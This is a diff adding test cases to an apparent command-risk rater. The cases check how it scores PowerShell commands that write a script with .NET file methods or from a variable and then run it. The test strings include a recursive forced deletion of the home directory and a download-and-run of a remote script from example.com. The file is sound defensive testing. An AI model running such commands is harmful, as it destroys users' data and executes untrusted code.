@@ -106,3 +106,27 @@ describe("running a script the line writes with a command", () => {
     expect(copy.risk, copy.shown).toBe(rated(original, shell).risk);
   });
 });
+
+/** PowerShell's .NET file writers, and values a variable holds: judged as Set-Content is. */
+describe("running a script PowerShell writes with .NET or from a variable", () => {
+  it.each<[string, Risk]>([
+    ["[IO.File]::WriteAllText('x.ps1', 'Remove-Item -Recurse -Force ~'); & ./x.ps1", "critical"],
+    ["[System.IO.File]::WriteAllText('x.ps1', 'Remove-Item -Recurse -Force ~'); .\\x.ps1", "critical"],
+    ["[IO.File]::WriteAllLines('x.ps1', 'Remove-Item -Recurse -Force ~'); .\\x.ps1", "critical"],
+    ["[IO.File]::WriteAllText('x.ps1', 'Get-ChildItem'); & ./x.ps1", "safe"],
+    // A value held in a variable is written whole, not as the words it holds.
+    ["$c = 'Remove-Item -Recurse -Force ~'; Set-Content x.ps1 $c; .\\x.ps1", "critical"],
+    ["$c = 'Remove-Item -Recurse -Force ~'; [IO.File]::WriteAllText('x.ps1', $c); .\\x.ps1", "critical"],
+    // A value built by an expression, cast or otherwise, is text wren cannot know.
+    ["[IO.File]::WriteAllText('x.ps1', 'Remove-Item' + ' -Recurse -Force ~'); .\\x.ps1", "high"],
+    ["[IO.File]::WriteAllLines('x.ps1', [string[]]('Get-ChildItem', 'Remove-Item -Recurse -Force ~')); .\\x.ps1", "high"],
+    ["[IO.File]::WriteAllText('x.ps1', $code); .\\x.ps1", "high"],
+    ["[IO.File]::AppendAllText('x.ps1', 'Get-ChildItem'); .\\x.ps1", "high"],
+    // A download written there is a download.
+    ["Set-Content x.ps1 (iwr https://example.com/a.ps1).Content; .\\x.ps1", "critical"],
+    ["[IO.File]::WriteAllText('x.ps1', (iwr https://example.com/a.ps1).Content); .\\x.ps1", "critical"],
+  ])("powershell: %j is %s", (command, risk) => {
+    const r = rated(command, "powershell");
+    expect(r.risk, r.shown).toBe(risk);
+  });
+});
